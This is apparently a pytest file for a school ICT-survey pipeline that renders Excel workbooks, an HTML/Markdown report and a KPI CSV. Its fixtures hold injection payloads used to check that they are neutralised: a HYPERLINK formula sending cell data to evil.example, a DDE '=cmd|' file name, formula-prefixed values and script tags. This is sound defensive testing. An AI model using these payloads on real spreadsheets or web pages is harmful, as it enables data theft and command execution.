"""The board pack and the staff workbook read back with openpyxl, the report's sentences and escaping,
kpi.csv bytes. (How the board pack prints is tests/test_board_pack.py.)

The survey is the tests' own (tests/fixtures/mini_survey.yaml): KPI scene_1 (①調べる) for 小学校 with
R6 現状 80, R7 市目標 90, 国KPI 100; 高等学校 set their own targets."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from pipeline.render import RunInfo, csv_bytes, render_outputs
from pipeline.render.report import build_report
from pipeline.render.staff import build_staff_workbook
from pipeline.render.workbook import build_workbook
from support import mini, school, score_of
from support import answers_for as _answers_for

DEF = mini()


def answers_for(s, **overrides):
    return _answers_for(DEF, s, **overrides)


def run(entries, **kw):
    return score_of(DEF, entries, **kw)


RUN = RunInfo(run_id="20261125-143000", generated_at=dt.datetime(2026, 11, 25, 14, 30), roster_source="schools.csv")
EVIL_REMARK = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'


@pytest.fixture(scope="module")
def scores():
    """31 小学校 (27 meet scene ①: 87.1 vs 90), three 高等学校 (fewer than five: not shown on their own),
    and hostile text in remarks, file names and problem values."""
    entries = []
    for i in range(31):
        e = school(f"E{i:02d}", ward=("青葉区", "泉区")[i % 2])
        entries.append((e, answers_for(e, scene_1="週3回以上" if i < 27 else "週1回以上",
                                       remarks=EVIL_REMARK if i == 1 else ("@SUM(1)" if i == 2 else None),
                                       act_plan="未実施" if i == 3 else "実施済み")))
    for i in range(3):
        h = school(f"H{i}", "高等学校", ward="泉区")
        entries.append((h, answers_for(h)))
    problems = [{"file": "=cmd|' /C calc'!A0.xlsx", "school_code": "E05", "sheet": "備考", "cell": "C5",
                 "item_id": "remarks", "value": "+1+1", "code": "check-ratio-max", "severity": "query",
                 "message": "「台数」<script>alert(1)</script> が多すぎるようです。"}]
    missing = [school("X1", name="仙台市立<script>alert('x')</script>小学校")]
    return run(entries, missing=missing, problems=problems)


@pytest.fixture(scope="module")
def book(scores):
    """The board pack."""
    return openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, scores, RUN)))


@pytest.fixture(scope="module")
def staff(scores):
    return openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN)))


@pytest.fixture(scope="module")
def report(scores):
    return build_report(DEF, scores, RUN)


@pytest.fixture(scope="module")
def met():
    """20 小学校, 18 meeting scene ①: 90.0, exactly the target. (scores, workbook, (html, md))."""
    entries = [(school(f"E{i:02d}"), answers_for(school(f"E{i:02d}"), scene_1="月1回以上" if i < 2 else "週3回以上"))
               for i in range(20)]
    s = run(entries)
    return s, openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, s, RUN))), build_report(DEF, s, RUN)


# ---------------------------------------------------------------- workbook


def test_sheet_names(book, staff):
    assert book.sheetnames == ["概要", "場面別KPI", "区別KPI", "高校等の目標", "取組状況", "指導力", "指導力（項目別）",
                               "環境", "経年", "提出状況"]
    assert staff.sheetnames == ["説明", "学校別回答", "エラー・確認一覧", "ファイル台帳", "データ", "取組状況（詳細）",
                                "指導力（詳細）", "環境（詳細）", "経年（年度別）"]


def _heading(value):
    """A column heading as its words (the board pack breaks long headings in two lines)."""
    return value.replace("\n", "") if isinstance(value, str) else value


def _find_row(ws, **match):
    """The first table row whose headed columns equal `match` (header row found by its first key)."""
    keys = list(match)
    for row in ws.iter_rows():
        values = [_heading(c.value) for c in row]
        if keys[0] in values and all(k in values for k in keys):
            header = values
            break
    else:
        raise AssertionError(f"no header with {keys}")
    idx = {h: i for i, h in enumerate(header) if h is not None}
    for row in ws.iter_rows(min_row=row[0].row + 1):
        if all(row[idx[k]].value == v for k, v in match.items()):
            return {h: row[i] for h, i in idx.items()}
    raise AssertionError(f"no row {match}")


def test_kpi_values_and_judgement(book, met):
    ws = book["場面別KPI"]
    r = _find_row(ws, 校種="小学校", 場面="①調べる")
    assert r["有効回答校"].value == 31 and r["週3回以上の学校"].value == 27
    assert r["結果"].value == pytest.approx(0.871) and r["結果"].number_format == "0.0%"
    assert r["R7市目標"].value == pytest.approx(0.9)
    assert r["目標との差"].value == pytest.approx(-2.9) and "pt" in r["目標との差"].number_format
    assert r["R6現状比"].value == pytest.approx(7.1)
    assert r["判定"].value == "未達成"
    _, met_book, _ = met
    r = _find_row(met_book["場面別KPI"], 校種="小学校", 場面="①調べる")
    assert r["結果"].value == pytest.approx(0.9) and r["判定"].value == "達成"
    assert r["目標との差"].value == 0


def test_charts_present(book):
    assert len(book["場面別KPI"]._charts) == 1  # one per school type with a KPI: 小学校
    assert len(book["指導力"]._charts) == 1
    assert len(book["経年"]._charts) == 1


def test_every_sheet_prints_on_a4_at_100_percent_with_titles(book, staff):
    """The board pack at 100 % (never fitted to a page width), each sheet in its own orientation."""
    for ws in book.worksheets + staff.worksheets:
        ps = ws.page_setup
        assert int(ps.paperSize) == 9, ws.title
        assert not (ws.sheet_properties.pageSetUpPr and ws.sheet_properties.pageSetUpPr.fitToPage), ws.title
        assert ws.print_title_rows, ws.title
        assert DEF.survey.title in ws.oddHeader.left.text
        assert "20261125-143000" in ws.oddHeader.right.text
        assert "&P" in ws.oddFooter.center.text
    assert {ws.title: ws.page_setup.orientation for ws in book.worksheets} == {
        "概要": "portrait", "場面別KPI": "landscape", "区別KPI": "landscape", "高校等の目標": "landscape",
        "取組状況": "landscape", "指導力": "landscape", "指導力（項目別）": "landscape", "環境": "landscape",
        "経年": "landscape", "提出状況": "portrait"}


def test_staff_tables_with_filters_and_frozen_headers(staff):
    for name in ("学校別回答", "エラー・確認一覧", "ファイル台帳", "データ", "取組状況（詳細）", "指導力（詳細）", "環境（詳細）"):
        ws = staff[name]
        assert ws.tables, name
        assert all(t.autoFilter is not None for t in ws.tables.values()), name
        assert ws.freeze_panes, name


def test_conditional_formatting(book, staff):
    kpi_rules = [r for cf in book["場面別KPI"].conditional_formatting for r in cf.rules]
    assert any(r.formula and '"達成"' in r.formula[0] for r in kpi_rules)
    assert any(r.formula and '"未達成"' in r.formula[0] for r in kpi_rules)
    per_school = [(str(cf.sqref), r) for cf in staff["学校別回答"].conditional_formatting for r in cf.rules]
    # The act_plan column: red when the answer is neither 実施済み nor 実施中.
    assert any('<>"実施済み"' in r.formula[0] and '<>"実施中"' in r.formula[0] for _, r in per_school if r.formula)
    # The scene column: below 週3回以上 for 小学校, below the school's own target for 高等学校.
    assert any('<>"週3回以上"' in r.formula[0] and '"高等学校"' in r.formula[0] for _, r in per_school if r.formula)
    # The count action: red below its minimum of 1.
    assert any(r.formula == ["AND(ISNUMBER($O7),$O7<1)"] for _, r in per_school)


def test_school_text_is_never_a_formula(book, staff):
    ws = staff["学校別回答"]
    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts[EVIL_REMARK].data_type == "s"
    assert texts["@SUM(1)"].data_type == "s"
    ws = staff["エラー・確認一覧"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells["=cmd|' /C calc'!A0.xlsx"].data_type == "s"
    assert cells["+1+1"].data_type == "s"
    for ws in book.worksheets + staff.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


def test_per_school_sheet_has_source_file_and_cells(staff):
    ws = staff["学校別回答"]
    r = _find_row(ws, 学校コード="E01")
    assert r["出典ファイル"].value == "E01.xlsx"
    assert r["提出状況"].value == "提出済み"
    assert _find_row(ws, 学校コード="X1")["提出状況"].value == "未提出"
    values = [c.value for row in ws.iter_rows(max_row=5) for c in row]
    assert "回答セル →" in values and any(isinstance(v, str) and v.startswith("活用!") for v in values)
    d = _find_row(staff["データ"], 学校コード="E03", 項目ID="act_plan")
    assert d["回答"].value == "未実施" and d["目標未達"].value == "未達"
    assert (d["ファイル"].value, d["シート"].value) == ("E03.xlsx", "活用")


def test_numbers_stay_numbers_in_data_sheet(staff):
    d = _find_row(staff["データ"], 学校コード="E03", 項目ID="students")
    assert d["回答"].value == 300 and d["回答"].data_type == "n"


def test_sheet_over_the_row_limit_is_left_to_csv(scores):
    wb = openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN, max_rows=100)))
    ws = wb["データ"]
    assert not ws.tables
    assert any(isinstance(c.value, str) and "responses.csv" in c.value for row in ws.iter_rows() for c in row)


# ---------------------------------------------------------------- kpi.csv and render_outputs


def test_kpi_csv_bytes(scores, met):
    data = csv_bytes(scores.kpi_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "kpi_id,school_type,respondents,meeting,rate,baseline,target,national_target,met"
    assert "scene_1,小学校,31,27,87.1,80.0,90.0,100.0,false" in lines
    assert len(lines) == 2  # one KPI × one school type with a target
    met_scores, _, _ = met
    assert "scene_1,小学校,20,18,90.0,80.0,90.0,100.0,true" in csv_bytes(met_scores.kpi_frame()).decode("utf-8-sig")


def test_kpi_csv_without_respondents_has_empty_rate_and_met():
    s = run([(school("H1", "高等学校"), answers_for(school("H1", "高等学校")))])
    lines = csv_bytes(s.kpi_frame()).decode("utf-8-sig").splitlines()
    assert "scene_1,小学校,0,0,,80.0,90.0,100.0," in lines


def test_render_outputs_names(scores):
    out = render_outputs(DEF, scores, RUN)
    assert set(out) == {"集約結果.xlsx", "集約結果_職員用.xlsx", "報告書.html", "報告書.md", "kpi.csv"}
    assert out["集約結果.xlsx"][:2] == b"PK" and out["集約結果_職員用.xlsx"][:2] == b"PK"
    assert all(isinstance(v, bytes) for v in out.values())


# ---------------------------------------------------------------- report


def test_report_key_sentences(report, met):
    _, _, met_report = met
    for text in report:
        assert "小学校の①は目標90%に対し87.1%（▲2.9pt）で未達成、R6比+7.1pt。" in text
    for text in met_report:
        assert "小学校の①は目標90%に対し90.0%（±0.0pt）で達成、R6比+10.0pt。" in text


def test_report_sections(report):
    html, md = report
    for title in ("調査の概要", "回収状況", "場面ごとの端末活用", "高等学校等の学校目標", "行動計画の取組状況",
                  "教員のICT活用指導力", "環境整備", "まとめ", "未提出校", "エラー・確認事項の件数"):
        assert title in html and title in md, title
    for policy in DEF.policies.values():
        assert policy.title in html


def test_report_charts_are_svg_with_text(report):
    html, _ = report
    assert html.count("<svg") == 2  # one KPI chart per school type with a target (小学校), the checklist
    assert "<text" in html and "①調べる</text>" in html
    assert "@page" in html and "A4" in html


def test_school_text_is_escaped(report):
    html, md = report
    assert "<script>" not in html and "<script>" not in md
    assert "&lt;script&gt;alert" in html
    assert "仙台市立&lt;script&gt;" in md


def test_small_counts_are_not_shown_on_their_own(report, scores):
    html, md = report
    # Three 高等学校: their coverage is about schools and is shown with the counts that give it (issue 11:
    # 「—」 beside 3 of 3 misled), and they count in 全体.
    assert "| 高等学校 | 3 | 3 | 0 | 0 | 100.0% |" in md
    assert "| 全体 | 35 | 34 | 0 | 1 | 97.1% |" in md


def test_summary_is_written_from_the_numbers(report):
    _, md = report
    summary = md.split("## 8. まとめ", 1)[1].split("## 付録", 1)[0]
    assert "1指標のうち、R7市目標を達成した指標はありませんでした。" in summary
    assert "小学校の①調べる（87.1%、目標90%、▲2.9pt）" in summary


def test_report_sentences_for_missing_and_provisional():
    # 小学校: 6 of 8 answered (暫定), all ほぼ毎日.
    entries = [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_1="ほぼ毎日")) for i in range(6)]
    s = run(entries, missing=[school("E8"), school("E9")])
    html, md = build_report(DEF, s, RUN)
    assert "小学校の①は目標90%に対し100.0%（+10.0pt）で達成、R6比+20.0pt（暫定：回答率75.0%）。" in md
    # Only 高等学校 in the roster: the 小学校 KPI has no respondents.
    s = run([(school("H1", "高等学校"), answers_for(school("H1", "高等学校")))])
    _, md = build_report(DEF, s, RUN)
    assert "小学校の①は有効な回答がなく、率を算出できません。" in md
    s = run(entries[:3])
    _, md = build_report(DEF, s, RUN)
    assert "小学校の①は回答校が5校未満のため、率を示していません。" in md


def test_everything_renders_when_all_schools_are_missing():
    s = run([], missing=[school("E1"), school("E2", flags={"院内学級"}), school("H1", "高等学校")])
    out = render_outputs(DEF, s, RUN)
    md = out["報告書.md"].decode()
    assert "小学校の①は有効な回答がなく、率を算出できません。" in md
    assert "| 高等学校 | 1 | 0 | 0 | — |" in md  # no own target judged
    assert "- 集計できる回答がまだありません（集計対象 0校）。" in md
    wb = openpyxl.load_workbook(io.BytesIO(out["集約結果.xlsx"]))
    r = _find_row(wb["場面別KPI"], 校種="小学校", 場面="①調べる")
    assert r["結果"].value is None and r["判定"].value == "—" and r["暫定"].value == "暫定"
    assert "scene_1,小学校,0,0,,80.0,90.0,100.0," in out["kpi.csv"].decode("utf-8-sig").splitlines()


def test_long_problem_list_is_left_to_its_csv(scores):
    wb = openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN, max_rows=6)))
    notes = {ws.title: [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
             for ws in wb.worksheets}
    assert any("problems.csv" in v for v in notes["エラー・確認一覧"])
    assert any("responses.csv" in v for v in notes["学校別回答"])
    assert not wb["エラー・確認一覧"].tables


def _table(ws, first_heading: str) -> tuple[list, list[list]]:
    """A board-pack table: its heading (the words of each column) and its rows, read down from the heading
    row whose first cell is `first_heading`, skipping the heading repeated on a next page, up to the first
    row that is no table row (a note)."""
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    top = next(i for i, r in enumerate(rows) if _heading(r[0]) == first_heading)
    columns = [c for c, v in enumerate(rows[top]) if v is not None]
    header = [_heading(rows[top][c]) for c in columns]
    body = []
    for r in rows[top + 1:]:
        values = [r[c] if c < len(r) else None for c in columns]
        if [_heading(v) for v in values] == header:
            continue
        if all(v is None for v in values[1:]):
            break
        body.append(values)
    return header, body


def test_action_sheet_has_one_row_per_action_and_the_share_per_school_type(book, scores):
    header, body = _table(book["取組状況"], "計画番号")
    assert header[:3] == ["計画番号", "学校の取組（調査項目）", "目標"]
    assert header[3:-1] == ["小学校", "高等学校", "全体"]
    assert len(body) == scores.actions["item_id"].nunique() == 3  # no school has a 院内学級: no act_hospital
    plan = next(r for r in body if r[0] == "1-(1)-①" and r[1].startswith("年間計画を立てて"))
    assert plan[3] == pytest.approx(30 / 31, abs=0.0005)  # 30 of 31 小学校 answered 実施済み


def test_an_action_nobody_could_answer_keeps_its_row_with_empty_shares():
    """Regression: the only 高等学校 did not answer; its own action has no rate in any school type."""
    e = school("E1")
    scores = run([(e, answers_for(e))], missing=[school("H1", "高等学校")])
    ws = openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, scores, RUN)))["取組状況"]
    _, rows = _table(ws, "計画番号")
    training = next(r for r in rows if r[1] and "情報科の研修" in r[1])
    assert all(v is None for v in training[3:-1])


# ---------------------------------------------------------------- wording from the definition


def _reworded(**changes):
    """The mini survey with the wording fields of the definition changed (as a new year's file would), built
    afresh (a model_copy would keep the cached items and matrix of the original)."""
    data = DEF.model_dump()
    data["kpi_table"].update(changes.get("kpi_table", {}))
    for section in data["sections"]:
        if section["matrix"]:
            section["matrix"].update(changes.get("matrix", {}))
    data.update(changes.get("top", {}))
    return type(DEF).model_validate(data)


def test_the_national_label_own_target_names_and_ratio_wording_come_from_the_definition():
    d = _reworded(kpi_table={"own_target_title": "高校の目標設定", "own_target_sheet": "高校目標"},
                  matrix={"national_label": "全国（令和9年度）", "national_source": "全国調査 令和9年度", "name": "指導力の点検表"},
                  top={"ratio_title": "端末の状況", "ratio_note": "注記は定義から。"})
    entries = [(school(f"E{i:02d}"), _answers_for(d, school(f"E{i:02d}"))) for i in range(6)]
    entries += [(school("H0", "高等学校"), _answers_for(d, school("H0", "高等学校")))]
    s = score_of(d, entries)
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(d, s, RUN)))
    assert "高校目標" in wb.sheetnames and "高校等の目標" not in wb.sheetnames
    texts = {ws.title: " ".join(str(_heading(v)) for r in ws.iter_rows(values_only=True) for v in r if v is not None)
             for ws in wb.worksheets}
    assert "全国（令和9年度）" in texts["指導力"] and "全国：全国調査 令和9年度" in texts["指導力"]
    assert "端末の状況" in texts["環境"] and "注記は定義から。" in texts["環境"]
    _, md = build_report(d, s, RUN)
    assert "## 4. 高校の目標設定" in md and "高等学校等の学校目標" not in md
    assert "指導力の点検表の各項目について" in md and "| 全国（令和9年度） |" in md
    assert "全国：全国調査 令和9年度。" in md and "注記は定義から。＊は暫定。" in md


def test_what_the_definition_leaves_out_is_not_printed():
    """No own-target school types: no sheet and no report section (the sections after it numbered on); no
    national source: no 「全国：。」; no derived figures: no table of them."""
    d = _reworded(kpi_table={"own_target_types": ()}, matrix={"national_source": ""}, top={"ratios": ()})
    entries = [(school(f"E{i:02d}"), _answers_for(d, school(f"E{i:02d}"))) for i in range(6)]
    s = score_of(d, entries)
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(d, s, RUN)))
    assert "高校等の目標" not in wb.sheetnames
    texts = {ws.title: " ".join(str(v) for r in ws.iter_rows(values_only=True) for v in r if v is not None)
             for ws in wb.worksheets}
    assert "全国：" not in texts["指導力"] and "稼働端末" not in texts["環境"] and "算出に使った学校" not in texts["環境"]
    html, md = build_report(d, s, RUN)
    assert "高等学校等の学校目標" not in md and "id=\"own-targets\"" not in html
    assert [line for line in md.splitlines() if line.startswith("## ")][:7] == [
        "## 1. 調査の概要", "## 2. 回収状況", "## 3. 場面ごとの端末活用", "## 4. 行動計画の取組状況",
        "## 5. 教員のICT活用指導力", "## 6. 環境整備", "## 7. まとめ"]
    assert "全国：" not in md and "| 指標 |" not in md
    assert "<h2>4. 行動計画の取組状況</h2>" in html


def test_the_provisional_rule_is_explained_in_the_words_of_its_threshold(monkeypatch):
    import pipeline.score as score_module

    entries = [(school(f"E{i:02d}"), answers_for(school(f"E{i:02d}"))) for i in range(6)]
    s = run(entries, missing=[school(f"M{i}") for i in range(4)])  # 6 of 10: 暫定 under either rule
    _, md = build_report(DEF, s, RUN)
    assert "対象校の8割未満" in md and "回収率が8割に満たない" in md
    monkeypatch.setattr(score_module, "PROVISIONAL_BELOW", score_module.Decimal("0.75"))
    _, md = build_report(DEF, s, RUN)
    assert "対象校の7割5分未満" in md and "回収率が7割5分に満たない" in md and "8割" not in md


def test_a_short_term_in_a_narrow_column_breaks_only_after_its_marks(book):
    from pipeline.render.paper import natural_lines

    assert natural_lines("実施済み・実施中", 90) == "実施済み・\n実施中"  # never 実施済み・実 / 施中
    assert natural_lines("年1回以上", 90) == "年1回以上"
    assert natural_lines("実施済み・実施中", 400) == "実施済み・実施中"
    targets = {c.value for row in book["取組状況"].iter_rows() for c in row if isinstance(c.value, str) and "実施中" in c.value}
    assert targets == {"実施済み・\n実施中"}
